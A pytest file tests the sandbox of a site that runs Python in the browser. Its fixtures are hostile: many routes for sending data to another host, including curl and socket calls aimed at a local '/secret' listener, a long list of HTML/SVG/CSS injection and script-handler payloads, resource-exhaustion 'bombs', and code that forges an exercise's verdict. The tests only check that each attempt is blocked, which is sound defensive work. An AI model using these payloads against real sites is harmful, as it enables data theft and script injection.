"""A stranger's code reaches neither the reader, the page nor another host, in two browsers. A second server listens."""

import functools
import http.server
import json
import random
import re
import socket
import threading
import time

import pytest

from scripts import policy
from tests.conftest import Server
from tests.drivers import Chromium
from tests.pages import PAGES, ROOT, WITHOUT_WEBKIT
from tests.test_runtime import link

FREEZE = 200  # ms that the page may be without an answer


class Elsewhere:
    """Another host: a port that keeps the first bytes of every connection, also of one that sends none."""

    def __init__(self):
        self.heard = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            connection.settimeout(0.5)
            try:
                self.heard.append(connection.recv(200))
            except OSError:
                self.heard.append(b"")
            connection.close()


@pytest.fixture(scope="module")
def elsewhere():
    other = Elsewhere()
    yield other
    other.socket.close()


@pytest.fixture(autouse=True)
def silence(elsewhere):
    elsewhere.heard.clear()
    yield
    time.sleep(0.3)
    assert elsewhere.heard == []


RUN = """
const cell = document.querySelectorAll("[data-wi-snippet]")[NUMBER - 1], output = cell.querySelector("[data-wi-output]")
const wait = ms => new Promise(done => setTimeout(done, ms))
for (let k = 0; k < 400 && !cell.querySelector(".cm-content"); k++) await wait(50)
for (let k = 0; k < 2; k++) { cell.querySelector("[data-wi-run]").click(); await wait(100) }
const ended = () => ["ok", "differs", "error", "stopped"].includes(output.dataset.wiState)
while (!ended() && output.querySelector("p").textContent !== "Running …") await wait(5)
const gaps = [], began = performance.now()
let last = began
const clock = setInterval(() => { gaps.push(performance.now() - last); last = performance.now() }, 5)
while (!ended()) {
  if (performance.now() - began > LIMIT && !cell.querySelector("[data-wi-stop]").hidden)
    cell.querySelector("[data-wi-stop]").click()
  await wait(50)
}
await wait(AFTER)
clearInterval(clock)
return { state: output.dataset.wiState, text: output.innerText, freeze: Math.max(...gaps),
  frames: output.querySelectorAll("iframe").length }
"""


def run(either, address, code, number=1, limit=120, after=300, page=""):
    """Open the page with code that came by a link, press Run twice, and return how it has ended.

    What runs longer than `limit` seconds is stopped. `after` is how long the page is looked at afterwards, in ms. The
    longest time in which a timer of 5 ms did not fire, in ms, from the beginning of the run, is `freeze`.
    """
    either.show(address + page + link(code, number), 1280, 900)
    return either.run(
        RUN.replace("NUMBER", str(number)).replace("LIMIT", str(limit * 1000)).replace("AFTER", str(after))
    )


# Ways to other hosts, and to what the site keeps in the browser, each a body of an async function with `url`, `ws` and
# a blob's address `made` of a script. What comes of it is returned.
WAYS = {
    "fetch": "return (await fetch(url)).status",
    "fetch in another mode": "return (await fetch(url, { mode: 'no-cors', keepalive: true })).type",
    "a request object": "return (await fetch(new Request(url, { method: 'POST', body: '42', mode: 'no-cors' }))).type",
    "the page itself": "return (await fetch(home)).status",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.status",
    "WebSocket": "const s = new WebSocket(ws); return await new Promise((a, b) => { s.onopen = a; s.onerror = b })",
    "WebSocketStream": "return await new WebSocketStream(ws).opened",
    "WebTransport": "return await new WebTransport(url.replace('http', 'https')).ready",
    "EventSource": "const s = new EventSource(url); return new Promise((a, b) => { s.onopen = a; s.onerror = b })",
    "import": "return await import(url)",
    "importScripts": "return importScripts(url)",
    "a font": "return await new FontFace('x', `url(${url})`).load()",
    "a worker": "const w = new Worker(url); return await new Promise((a, b) => { w.onmessage = a; w.onerror = b })",
    "a module worker": "const w = new Worker(url, { type: 'module' }); return new Promise((a, b) => { w.onerror = b })",
    "a shared worker": "return new SharedWorker(url)",
    "a beacon": "return navigator.sendBeacon(url, '42')",
    "a stream to WebAssembly": "return await WebAssembly.compileStreaming(fetch(url))",
    "a report": "return await fetchLater(url)",
    "a service worker": "return await navigator.serviceWorker.register(url)",
    "caches": "return await (await caches.open('x')).add(url)",
    "caches, of the site": "return await (await caches.open('x')).put('/x', new Response('x'))",
    "storage buckets": "return await (await (await navigator.storageBuckets.open('x')).caches.open('x')).add(url)",
    "a bucket's files": "return await (await navigator.storageBuckets.open('x')).getDirectory()",
    "files of the origin": "return await navigator.storage.getDirectory()",
    "a database": "const r = indexedDB.open('x'); return new Promise((a, b) => { r.onsuccess = a; r.onerror = b })",
    "locks": "return await navigator.locks.request('x', () => 1)",
    "an old file system": "return webkitRequestFileSystemSync(0, 1000)",
    "cookies": "return await cookieStore.getAll()",
    "local storage": "return localStorage.length",
    "the document": "return document.title",
    "code of a text": "return eval('1')",
    "code of a function": "return new Function('return 1')()",
}
HARMLESS = {"locks"}  # of an origin that nobody shares

TRIED = """
const ways = {WAYS}
self.tried = Promise.all(Object.entries(ways).map(async ([name, way]) => {
  const late = new Promise(done => setTimeout(() => done("nothing"), 3000))
  try { return [name, "open: " + await Promise.race([way(), late])] } catch (error) { return [name, "shut: " + error] }
}))
"""


def script(url, home):
    ways = ",".join(f"{json.dumps(name)}: async () => {{ {way} }}" for name, way in WAYS.items())
    names = f"const url = {json.dumps(url)}, ws = url.replace('http', 'ws'), home = {json.dumps(home)};"
    return names + TRIED.replace("WAYS", ways)


# Firefox 153 hangs a worker for good, now and then, while it makes workers that may not load (12 of 100 times on a busy
# machine). A room that hangs has reached nothing either; the ways are tried in another one.
ROOMS = 5


def test_the_room_is_shut(either, address, elsewhere):
    """A worker as hostile as can be, in place of ours, and a worker that it starts."""
    tried = script(f"http://127.0.0.1:{elsewhere.port}/secret", address)
    hostile = f"""{tried}
    onmessage = async ({{ ports: [port] }}) => {{
      const inner = new Worker(URL.createObjectURL(new Blob([{json.dumps(tried + ";tried.then(postMessage)")}])))
      const second = new Promise(done => {{ inner.onmessage = ({{ data }}) => done(data) }})
      port.postMessage([...await tried, ...(await second).map(([name, how]) => ["inner " + name, how])])
    }}"""
    found = None
    for _ in range(ROOMS):
        either.show(address, 1280, 900)
        found = either.run(
            f"""
            const frame = document.createElement("iframe"), {{ port1, port2 }} = new MessageChannel()
            frame.setAttribute("sandbox", "allow-scripts")
            frame.src = "assets/js/run/room.html"
            document.body.append(frame)
            await new Promise(done => {{ frame.onload = done }})
            frame.contentWindow.postMessage({json.dumps(hostile)}, "*", [port2, new MessageChannel().port2])
            return new Promise(done => {{
              port1.onmessage = ({{ data }}) => done(data)
              setTimeout(() => done(null), 30_000)
            }})
            """
        )
        if found:
            break
    assert found, "no room has answered"
    assert len(found) == 2 * len(WAYS)
    opened = {name: how for name, how in found if not how.startswith("shut")}
    assert {name.removeprefix("inner ") for name in opened} <= HARMLESS, opened
    kept = either.run(
        "return [localStorage.length - (localStorage.getItem('x') === null ? localStorage.length : 0),"
        " (await indexedDB.databases()).length, (await caches.keys()).length]"
    )
    assert kept == [0, 0, 0]


# The same ways in the middle of a run, by an imported script and by a worker inside the worker, and Python's own.
ESCAPES = """
import js, time
from pyodide.ffi import to_js
url, script = {url!r}, {script!r}
kind = to_js({{"type": "text/javascript"}}, dict_converter=js.Object.fromEntries)
blob = lambda: js.URL.createObjectURL(js.Blob.new(to_js([script]), kind))
js.importScripts(blob())
js.Worker.new(blob())
for way in ("urllib.request.urlopen(url)", "pyodide.http.open_url(url)",
            "socket.create_connection(('127.0.0.1', {port}))",
            "js.fetch(url)", "js.XMLHttpRequest.new().open('GET', url, False)", "pyodide.http.pyfetch(url)",
            "pyodide.code.run_js('1')", "micropip.install(url)", "pyodide_js.loadPackage(url)", "js.importScripts(url)",
            "os.system('curl ' + url)", "subprocess.run(['curl', url])"):
    names = {{"url": url, "js": js}}
    try:
        for module in ("urllib.request", "pyodide.http", "pyodide.code", "socket", "micropip", "pyodide_js", "os",
                       "subprocess"):
            if module.split(".")[0] in way:
                exec("import " + module, names)
        exec(way, names)
        print(way, "did not raise")
    except BaseException as error:
        print(way, "raised", type(error).__name__)
time.sleep(2)
print("looked for long")
"""


def test_python_reaches_no_other_host(either, address, elsewhere):
    url = f"http://127.0.0.1:{elsewhere.port}/secret"
    code = ESCAPES.format(script=script(url, address), url=url, port=elsewhere.port)
    for _ in range(ROOMS):
        found = run(either, address, code, limit=30, after=1000)
        if found["state"] != "stopped":
            break
    assert "looked for long" in found["text"]
    for way in ("urlopen", "open_url", "create_connection", "importScripts", "run_js"):
        assert re.search(rf"{way}\(.*\) raised", found["text"]), found["text"]


def test_the_other_server_hears_what_is_sent(either, address, elsewhere):
    """What the tests of this file take for granted: a request, and a connection without one, would be noticed."""
    either.show(f"{address}robots.txt", 800, 600)  # of the site, and without a policy
    either.run(f"await fetch('http://127.0.0.1:{elsewhere.port}/', {{ mode: 'no-cors' }}).catch(() => 0)")
    socket.create_connection(("127.0.0.1", elsewhere.port)).close()
    time.sleep(0.7)
    assert len(elsewhere.heard) >= 2
    elsewhere.heard.clear()


# Ways to write an address in CSS, escapes included, and properties that fetch it; U stands for the address.
STYLES = [
    *(f"background:{way}" for way in (
        "url(U)", "url('U')", r"u\72l(U)", r"\75 rl(U)", r"\000075rl(U)", r"UR\4c(U)", "URL(U)", "url(\n'U')",
        "image-set('U' 1x)", r"im\61ge-set('U' 1x)", "-webkit-image-set(url(U) 1x)", "cross-fade(url(U), url(U), 50%)",
        "-webkit-cross-fade(url(U), url(U), 50%)", "src('U')", "paint(x), url(U)", "url(#a), url(U)",
        "element(#a), url(U)",
    )),
    "--a:url(U);background:var(--a)", r"--a:u\72l(U);background:var(--a)", "cursor:url(U),auto",
    "list-style:url(U);display:list-item", "content:url(U)", "mask:url(U)", "-webkit-mask:url(U)",
    "border-image:url(U) 1", "filter:url(U#f)", "shape-outside:url(U);float:left", "clip-path:url(U#c)",
    "-moz-binding:url(U)", "behavior:url(U)", "offset-path:url(U#p)", "fill:url(U#a)", "marker:url(U#a)",
]  # fmt: skip
ELEMENTS = [
    "<img src=U>", "<img srcset='U 1x'>", "<img src=x onerror=parent.hit=1>",
    "<picture><source srcset=U><img></picture>",
    "<video src=U poster=U autoplay></video>", "<audio src=U autoplay></audio>", "<video><track src=U default></video>",
    "<iframe src=U></iframe>", "<iframe srcdoc='<img src=U>'></iframe>", "<frameset><frame src=U></frameset>",
    "<object data=U></object>", "<embed src=U>", "<applet code=U></applet>", "<portal src=U></portal>",
    "<fencedframe src=U></fencedframe>", "<link rel=stylesheet href=U>", "<link rel=preconnect href=U>",
    "<link rel=dns-prefetch href=U>", "<link rel=preload as=image href=U>", "<link rel=prefetch href=U>",
    "<link rel=prerender href=U>", "<link rel=modulepreload href=U>",
    "<link rel=icon href=U>", "<link rel=manifest href=U>",
    "<script src=U></script>", "<script>parent.hit=1</script>", "<script type=module>import 'U'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"U\"]}]}</script>", "<script type=importmap>{}</script>",
    "<meta http-equiv=refresh content='0;url=U'>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=U>",
    "<base target=_top>", "<body background=U onload=parent.hit=1>",
    "<table background=U><tr><td background=U>t</table>",
    "<form action=U><input name=q autofocus onfocus=parent.hit=1><button>b</button></form>", "<isindex action=U>",
    "<input type=image src=U>", "<button formaction=U autofocus>b</button>", "<a href=U ping=U>a</a>",
    "<a href=javascript:parent.hit=1>a</a>", "<area href=U>", "<details open ontoggle=parent.hit=1>d</details>",
    "<dialog open>d</dialog>", "<label for=__search style='position:fixed;inset:0'>l</label>",
    "<b id=__search name=__config class=md-overlay>n</b>", "<p style='position:fixed;inset:0;background:#fff'>p</p>",
    "<style>@import 'U'; * { background: url(U) }</style>",
    "<style>@font-face{font-family:x;src:url(U)}*{font:9px x}</style>",
    "<noscript><img src=U></noscript>", "<template><img src=U></template>",
    "<template shadowrootmode=open><img src=U></template>",
    "<svg><image href=U /></svg>", "<svg><image xlink:href=U /></svg>", "<svg><feImage href=U /></svg>",
    "<svg><use href=U#a /></svg>", "<svg><use xlink:href=U#a /></svg>", "<svg><script href=U /></svg>",
    "<svg><script>parent.hit=1</script></svg>", "<svg onload=parent.hit=1></svg>",
    "<svg><style>@import 'U'</style></svg>",
    "<svg><animate attributeName=href values=U /></svg>", "<svg><set attributeName=onload to=parent.hit=1 /></svg>",
    "<svg><foreignObject><img src=U></foreignObject></svg>", "<svg><a href=U><text>t</text></a></svg>",
    "<svg><pattern id=p><image href=U /></pattern><rect fill='url(#p)' width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href=U /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "<svg><title><img src=U></title></svg>", "<svg><desc><style><img src=U></style></desc></svg>",
    "<math><mtext><table><mglyph><style><img src=U></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=U></annotation-xml></math>", "<math href=U>m</math>",
    "<p title='</p><img src=U>'>p</p>", "<p>&lt;img src=U&gt;</p>", "<textarea></textarea><img src=U>",
    "<xmp><img src=U></xmp>", "<title><img src=U></title>", "<plaintext><img src=U>", "<!--><img src=U>-->",
    "<![CDATA[<img src=U>]]>", "<?xml-stylesheet href=U?>", "<select><option><img src=U></select>",
    "<marquee onstart=parent.hit=1>m</marquee>", "<keygen autofocus>", "<bgsound src=U>", "<layer src=U></layer>",
]  # fmt: skip
assert len(STYLES) + len(ELEMENTS) > 110


def generated(number, seed=21):
    """Return markup from elements, attributes and addresses at random, nested and broken at random."""
    draw = random.Random(seed)
    tags = [
        "p",
        "b",
        "svg",
        "g",
        "rect",
        "use",
        "image",
        "a",
        "style",
        "link",
        "meta",
        "math",
        "mtext",
        "table",
        "td",
        "title",
        "desc",
        "foreignObject",
        "iframe",
        "form",
    ]
    names = [
        "style",
        "fill",
        "stroke",
        "clip-path",
        "href",
        "xlink:href",
        "src",
        "class",
        "id",
        "title",
        "d",
        "mask",
        "filter",
        "onload",
        "data-x",
    ]

    def value():
        style = draw.choice(STYLES)
        # Any letter of CSS may be written as an escape.
        return (
            "".join(
                f"\\{ord(sign):x} " if sign.isalpha() and sign != "U" and draw.random() < 0.05 else sign
                for sign in style
            )
            if draw.random() < 0.7
            else draw.choice(["U", "#a", "url(#a)", "javascript:parent.hit=1", "//U", "1"])
        )

    def element(depth):
        tag = draw.choice(tags)
        attributes = "".join(f' {draw.choice(names)}="{value()}"' for _ in range(draw.randrange(4)))
        inside = "".join(element(depth + 1) for _ in range(draw.randrange(3))) if depth < 4 else draw.choice(ELEMENTS)
        end = draw.choice([f"</{tag}>", f"</{tag}>", "", "</p>", "<!--", "]]>"])
        return f"<{tag}{attributes}>{inside}{end}"

    return [element(0) for _ in range(number)]


def test_markup_asks_nothing_of_another_host_and_stays_in_its_frame(either, address, elsewhere):
    """Each is drawn as what code shows is drawn. Of what the page's tree gets, nothing is the code's."""
    markups = [*(f'<p style="{style}">words</p>' for style in STYLES), *ELEMENTS]
    rects = [f'<rect width="9" height="9" style="{style}"/>' for style in STYLES]
    rects += [f'<rect {name}="{style.partition(":")[2]}"/>' for style in STYLES for name in ("fill", "mask")]
    markups += [f"<svg viewBox='0 0 9 9'>{''.join(rects[k : k + 20])}</svg>" for k in range(0, len(rects), 20)]
    made = generated(400)  # eight in a frame, so that they are drawn in seconds
    markups += ["".join(made[k : k + 8]) for k in range(0, len(made), 8)]
    url = f"http://127.0.0.1:{elsewhere.port}/x"
    either.show(address + "errata/", 1280, 900)  # a page without an explorer, which would add elements of its own
    found = either.run(
        f"""
        const {{ framed }} = await import("{address}assets/js/run/shown.js")
        const before = document.querySelectorAll("*").length, place = document.createElement("div")
        document.querySelector("article").append(place)
        let shown = 0, refused = 0
        for (const markup of {json.dumps([markup.replace("U", url) for markup in markups])}) {{
          try {{ place.append(framed(markup)); shown++ }} catch (error) {{ refused++ }}
          if (place.childElementCount < 60) continue
          await new Promise(done => setTimeout(done, 700))
          place.replaceChildren()
        }}
        await new Promise(done => setTimeout(done, 1500))
        const odd = [...place.querySelectorAll("*")].filter(({{ tagName }}) => tagName !== "IFRAME").length
        const attributes = new Set([...place.children].flatMap(frame => frame.getAttributeNames()))
        const held = [...place.children].map(frame => frame.srcdoc.replace(/<meta[^>]*>|<style>[^]*?<.style>/g, ""))
        place.remove()
        return {{ shown, refused, odd, attributes: [...attributes].sort(), hit: window.hit ?? null,
          added: document.querySelectorAll("*").length - before,
          left: held.filter(text => /<(script|link|meta|img|iframe|style|form|a |image)/i.test(text)) }}
        """
    )
    assert found["shown"] > 0.9 * len(markups), found
    assert (found["odd"], found["hit"], found["added"], found["left"]) == (0, None, 0, [])
    assert set(found["attributes"]) <= {"sandbox", "class", "title", "srcdoc", "style"}


def test_words_and_pictures_are_drawn(either, address):
    """What is harmless stays: a table, and a picture with its label and its shape."""
    either.show(address, 1280, 900)
    table, picture = either.run(
        f"""
        const {{ framed }} = await import("{address}assets/js/run/shown.js")
        const table = framed("<table><tr><th colspan=2>head</th></tr><tr><td>1<td>2</table>")
        const picture = framed("<svg viewBox='0 0 200 100' aria-label='A line'><defs><path id='a' d='M0 0h9'/></defs>"
          + "<use xlink:href='#a' style='stroke: var(--wi-blue, #000)'/><text>mask</text></svg>")
        document.querySelector("article").append(table, picture)
        return [table.srcdoc, [picture.srcdoc, picture.title, picture.clientWidth / picture.clientHeight]]
        """
    )
    assert '<table><tbody><tr><th colspan="2">head</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>' in table
    assert '<use href="#a" style="stroke: var(--wi-blue, #000)"></use><text>mask</text></svg>' in picture[0]
    assert picture[1] == "A line"
    assert abs(picture[2] - 2) < 0.05


NESTED = "<g id='u0'><rect/></g>" + "".join(
    f"<g id='u{k}'>" + f"<use href='#u{k - 1}'/>" * 10 + "</g>" for k in range(1, 7)
)
REFUSED = {
    "nested deeply": ("<b>" * 200, "it is nested more than 60 deep"),
    "many elements": ("<p>x</p>" * 6000, "it has more than 3,000 elements"),
    "long": ("x" * 3_000_000, "it has more than 1,000,000 characters"),
    "nested use": (f"<svg>{NESTED}</svg>", "it repeats its parts too often"),
    "a use of itself": ("<svg><g id='a'><use href='#a'/></g><use href='#a'/></svg>", "it repeats its parts too often"),
    "many uses": (
        "<svg><g id='a'>" + "<path/>" * 1000 + "</g>" + "<use href='#a'/>" * 100 + "</svg>",
        "it repeats its parts too often",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_too_large_is_refused_with_a_sentence(either, address, name):
    markup, words = REFUSED[name]
    either.show(address, 1280, 900)
    said, took = either.run(
        f"""
        const {{ framed }} = await import("{address}assets/js/run/shown.js")
        const began = performance.now()
        try {{ framed({json.dumps(markup)}) }} catch (error) {{ return [error.message, performance.now() - began] }}
        return ["drawn", 0]
        """
    )
    assert said == words
    assert took < FREEZE


SHOWS = "class Shown:\n    def __init__(self, text): self.text = text\n    def _repr_html_(self): return self.text\n"
BOMBS = {
    "3 MB of nested markup": f"{SHOWS}Shown('<b>' * 1_000_000)\n",
    "20,000 small displays": f"import sys\n{SHOWS}for _ in range(20_000): sys.displayhook(Shown('<p>x</p>'))\n",
    "the largest that are drawn": f"import sys\n{SHOWS}for _ in range(20): sys.displayhook(Shown('<p>x</p>' * 2990))\n",
    "nested use": f"{SHOWS}Shown({f'<svg>{NESTED}</svg>'!r})\n",
    "a flood of messages": "import js\nwhile True: js.postMessage('x' * 1000)\n",
    "a flood of errors": "import js\nerror = js.Error.new('x')\nwhile True: js.reportError(error)\n",
    "a flood of output behind the limits": (
        "import sys\ntell = sys._getframe(1).f_locals['tell']\n"
        "while hasattr(tell, '__closure__'):\n"
        "    tell = next(c.cell_contents for c in tell.__closure__ if callable(c.cell_contents))\n"
        "while True: tell('out', 'x' * 10000)\n"
    ),
    "a flood of prints": "while True: print('x')\n",
    "an endless loop": "while True: pass\n",
}


@pytest.mark.parametrize("name", BOMBS)
@WITHOUT_WEBKIT
def test_the_page_answers_under_a_bomb(either, address, name, capsys):
    """Other tests run at the same time. So after a long freeze a run that only waits is measured too, three times."""
    freezes = []
    for _ in range(3):
        found = run(either, address, BOMBS[name], limit=3, after=1000)
        idle = 0.0
        if found["freeze"] > FREEZE:
            idle = run(either, address, "import time; time.sleep(3)\n", after=1000)["freeze"]
        freezes.append((round(found["freeze"]), round(idle)))
        if found["freeze"] - idle <= FREEZE:
            break
    with capsys.disabled():
        words = found["text"][:90]
        print(f"\n{either.name}, {name}: freezes, and those of a run that waits: {freezes} ms; {words!r}")
    assert min(freeze - idle for freeze, idle in freezes) <= FREEZE
    assert found["frames"] <= 20


@WITHOUT_WEBKIT
def test_nothing_goes_on_behind_a_result(either, address):
    """A link's code ends with its room. Of the reader's own, timers and tasks end, and names stay."""
    code = "import js\nfrom pyodide.ffi import create_proxy\n"
    code += "js.setInterval(create_proxy(lambda: js.reportError(1)), 1)\n'over'\n"
    either.show(address + link(code), 1280, 900)
    watch = "window.rooms = []; new MutationObserver(changes => { for (const { removedNodes } of changes)"
    watch += " for (const node of removedNodes) if (node.tagName === 'IFRAME') rooms.push(node.src) })"
    either.run(watch + ".observe(document.body, { childList: true })")
    found = either.run(RUN.replace("NUMBER", "1").replace("LIMIT", "60000").replace("AFTER", "300"))
    assert "over" in found["text"]
    assert len(either.run("return window.rooms")) == 1  # the room was closed
    own = """
        const { snippetIn, run } = await import(ADDRESS)
        const snippet = snippetIn(document.querySelector("[data-wi-snippet]"))
        for (const code of CODES) { await snippet.edit(code, false); await run(snippet) }
        return snippet.output.innerText
    """.replace("ADDRESS", json.dumps(f"{address}assets/js/run/session.js"))
    begin = (
        "import asyncio, js\nfrom pyodide.ffi import create_proxy\nhits = []\n"
        "js.setInterval(create_proxy(lambda: hits.append(1)), 1)\n"
        "js.setTimeout(create_proxy(lambda: hits.append(2)), 1)\n"
        "async def go():\n    while True:\n        await asyncio.sleep(0.001)\n        hits.append(3)\n"
        "task = asyncio.ensure_future(go())\n"
    )
    codes = [begin, "import time; time.sleep(0.5)\n", "f'hits: {len(hits)}'\n"]
    assert "hits: 0" in either.run(own.replace("CODES", json.dumps(codes)))


@WITHOUT_WEBKIT
def test_what_comes_later_cannot_be_forged(either, address):
    """A link's code changes all that it can reach; a snippet below it, and an exercise, give what they give."""
    code = (
        "import builtins, numpy as np, sys, wi_docs.pages.exercises as e, wi_docs, in_browser\n"
        "e.judge = lambda *a: e.Verdict(True, 'Right. Everything is.')\n"
        "in_browser.judge = in_browser.run = np.tanh = builtins.print = wi_docs.propagate = None\n"
        "in_browser.shared.clear()\n"
    )
    found = run(either, address, code, page="vanishing-gradients/")
    assert "not what is printed here" in found["text"]
    below, exercise = either.run(
        """
        const { snippetIn, run } = await import(ADDRESS)
        const cells = [...document.querySelectorAll("[data-wi-snippet]")]
        const exercise = cells.find(cell => cell.closest("[data-wi-exercise]"))
        const said = []
        for (const cell of [cells[1], exercise]) {
          await run(snippetIn(cell))
          said.push([snippetIn(cell).output.dataset.wiState, snippetIn(cell).output.innerText])
        }
        return said
        """.replace("ADDRESS", json.dumps(f"{address}assets/js/run/session.js"))
    )
    assert below[0] == "ok", below
    assert exercise[0] == "differs"
    assert exercise[1].startswith("Not yet.")


@WITHOUT_WEBKIT
def test_what_is_shown_is_what_runs(either, address):
    hidden = ["\u202e", "\u2066", "\u200b", "\u00ad", "\u2060", "\u3164", "\U000e0041", "\u200f"]
    code = f"a = 'x{''.join(hidden)}y'\nprint('אבג', a)\n"
    either.show(address + link(code), 1280, 900)
    marks, said, order, state = either.run(
        """
        for (let k = 0; k < 400 && !document.querySelector(".cm-content"); k++)
          await new Promise(done => setTimeout(done, 50))
        await new Promise(done => setTimeout(done, 500))
        const cell = document.querySelector("[data-wi-snippet]"), line = cell.querySelectorAll(".cm-line")[1]
        const left = sign => {
          const walker = document.createTreeWalker(line, NodeFilter.SHOW_TEXT), range = document.createRange()
          while (walker.nextNode()) {
            const at = walker.currentNode.data.indexOf(sign)
            if (at < 0) continue
            range.setStart(walker.currentNode, at)
            range.setEnd(walker.currentNode, at + 1)
            return range.getBoundingClientRect().left
          }
        }
        const output = cell.querySelector("[data-wi-output]"), button = cell.querySelector("[data-wi-run]")
        const said = [output.innerText]
        button.click()
        await new Promise(done => setTimeout(done, 300))
        said.push(output.innerText)
        return [cell.querySelectorAll(".cm-specialChar").length, said, left("א") < left("ג"), output.dataset.wiState]
        """
    )
    assert marks == len(hidden)
    assert order, "letters written from right to left stand in the order in which Python reads them"
    assert f"This code came with the link: 2 lines, {len(code) + 1} characters" in said[0]  # in JavaScript's units
    assert "It holds 8 characters that would not be seen" in said[0]
    assert "To run it, press Run once more." in said[1]
    assert state == "idle"


WATCH = "window.broken = []; addEventListener('securitypolicyviolation', e => broken.push(e.effectiveDirective))"


@WITHOUT_WEBKIT
def test_every_page_keeps_its_policy(either, address, site):
    if either.name == "firefox":
        added = either.send("script.addPreloadScript", functionDeclaration=f"() => {{ {WATCH} }}")["script"]
    else:
        added = either.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    try:
        for page in [*PAGES, "404.html"]:
            either.show(address + page, 1280, 900)
            assert either.run("return broken") == [], page
            assert either.run("return document.querySelectorAll('meta[http-equiv]').length") == 1, page
    finally:
        if either.name == "firefox":
            either.send("script.removePreloadScript", script=added)
        else:
            either.driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", added)


@WITHOUT_WEBKIT
def test_the_policy_forbids_scripts_within_a_page_and_other_hosts(either, address, elsewhere):
    either.show(address, 1280, 900)
    broken = either.run(
        f"""
        const url = "http://127.0.0.1:{elsewhere.port}/x", broken = []
        addEventListener("securitypolicyviolation", event => broken.push(event.effectiveDirective))
        const add = (tag, attributes, text = "") => {{
          const element = document.createElement(tag)
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
          element.textContent = text
          document.body.append(element)
        }}
        add("script", {{}}, "window.hit = 1")
        add("script", {{ src: url }})
        add("b", {{ onclick: "window.hit = 1" }})
        document.body.lastElementChild.click()
        for (const tag of ["img", "iframe", "video"]) add(tag, {{ src: url }})
        add("link", {{ rel: "stylesheet", href: url }})
        add("style", {{}}, `body {{ background: url(${{url}}) }}`)
        await new Promise(done => setTimeout(done, 1000))
        return [window.hit ?? null, [...new Set(broken)].sort()]
        """
    )
    # Chromium connects for a frame before it looks at the policy, and sends nothing.
    assert [said for said in elsewhere.heard if said] == []
    elsewhere.heard.clear()
    assert broken[0] is None
    assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "style-src-elem"} <= set(broken[1])


def test_the_room_has_the_hash_of_its_script():
    room = (ROOT / "docs" / "assets" / "js" / "run" / "room.html").read_text()
    assert re.search(r"'sha256-[^']+'", room)[0] in policy.of(room), "write the hash of its script into its policy"


@WITHOUT_WEBKIT
def test_it_works_below_a_path(either, site, tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "path").symlink_to(site)
    handler = functools.partial(Server, directory=str(tmp_path))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as below:
        threading.Thread(target=below.serve_forever, daemon=True).start()
        found = run(either, f"http://127.0.0.1:{below.server_port}/sub/path/", "print(6 * 7)\n")
        below.shutdown()
    assert "42" in found["text"]


def test_a_room_that_crashes_is_named_and_opened_anew(browser, address):
    """Chromium draws such frames in a process of their own; Firefox does not, and ends the tab."""
    either = Chromium(browser)
    found = run(either, address, "import js\nkept = []\nwhile True: kept.append(js.ArrayBuffer.new(10**9))\n", limit=60)
    assert found["state"] == "error"
    found = run(either, address, "print(6 * 7)\n")
    assert "42" in found["text"]
